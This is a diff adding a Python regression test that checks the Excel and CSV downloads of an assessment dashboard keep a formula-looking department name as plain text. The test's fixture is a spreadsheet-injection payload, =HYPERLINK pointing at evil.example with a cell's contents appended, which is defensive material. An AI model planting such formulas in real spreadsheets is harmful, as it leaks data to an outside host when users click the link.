@@ -247,3 +247,20 @@ def test_the_assessment_page_says_how_the_parts_are_counted(app, demo):
     assert header.index("收到函询") < header.index("已答复函询") < header.index("函询按时答复率")
     rows = re.findall(r'<tr data-department="([^"]+)">', page)
     assert len(rows) == 8 + 6 and len(re.findall(r'<td class="inquiries_answered">\d+</td>', page)) == len(rows)
+
+
+def test_node_assessment_downloads_keep_text_as_text(app, world):
+    """A department's name starting with = became a live formula in the Excel download (openpyxl writes such a string as
+    a formula) and was read as one from the CSV: =HYPERLINK(…) under a street office's name (found by a hostile-input
+    review)."""
+    from engine import directory
+    from engine.routing import Actor
+    name = '=HYPERLINK("http://evil.example/?x="&A2,"点此核对")'
+    with world.rt.db.write() as session:
+        directory.add_unit(session, Actor.system("test"), "STREET-EV", name, "", "STREET", "西湖区", [])
+    client = login(app.test_client(), "auditor")
+    sheet = load_workbook(io.BytesIO(client.get(f"/dashboard/assessment.xlsx?period={_period(world)}").data)).active
+    cell = next(c for c in sheet["A"] if "HYPERLINK" in str(c.value))
+    assert cell.data_type == "s" and cell.value == name, (cell.data_type, cell.value)
+    text = client.get(f"/dashboard/assessment.csv?period={_period(world)}").data.decode("utf-8-sig")
+    assert "\n'=HYPERLINK(" in text.replace('"', "") and "\n=HYPERLINK" not in text.replace('"', "")
